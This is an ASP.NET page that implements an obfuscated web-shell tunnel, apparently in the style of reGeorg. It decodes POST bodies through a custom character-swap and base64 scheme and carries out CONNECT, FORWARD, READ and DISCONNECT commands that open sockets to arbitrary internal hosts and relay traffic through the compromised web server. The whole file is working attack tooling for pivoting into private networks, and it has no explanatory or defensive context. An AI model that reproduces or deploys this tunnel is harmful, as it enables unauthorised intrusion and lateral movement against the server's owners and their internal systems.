<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
    public String Tr(string input, string frm, string to) {
        String r = "";
        for (int i = 0; i < input.Length; i++) { int x = frm.IndexOf(input[i]); r += x != -1 ? to[x] : input[i]; }
        return r;
    }
</script>
<%
    String en = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    String de = "qwertyuiopasdfghjklzxcvbnmQWERTYUIOPASDFGHJKLZXCVBNM9876543210-_";
    byte[] buff = new byte[Request.ContentLength];
    Request.InputStream.Read(buff, 0, buff.Length);
    string[] f = System.Text.Encoding.Default.GetString(Convert.FromBase64String(Tr(System.Text.Encoding.Default.GetString(buff), de, en))).Split('|');
    String cmd = f[0], mark = f[1];
    if (cmd == "CONNECT") {
        Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        IAsyncResult ar = s.BeginConnect(new IPEndPoint(IPAddress.Parse(f[2]), int.Parse(f[3])), null, null);
        ar.AsyncWaitHandle.WaitOne(3000, true);
        if (s.Connected) { s.Blocking = false; Application.Add(mark, s); Response.Write("OK"); }
    } else if (cmd == "DISCONNECT") {
        try { ((Socket)Application[mark]).Close(); } catch (Exception) { }
        Application.Remove(mark);
    } else if (cmd == "FORWARD") {
        ((Socket)Application[mark]).Send(Convert.FromBase64String(Tr(f[2], de, en)));
    } else if (cmd == "READ") {
        byte[] rb = new byte[65535];
        int n = ((Socket)Application[mark]).Receive(rb);
        Response.Write(Tr(Convert.ToBase64String(rb, 0, n), en, de));
    } else {
        Response.Write("<!-- tunnel ready -->");
    }
%>
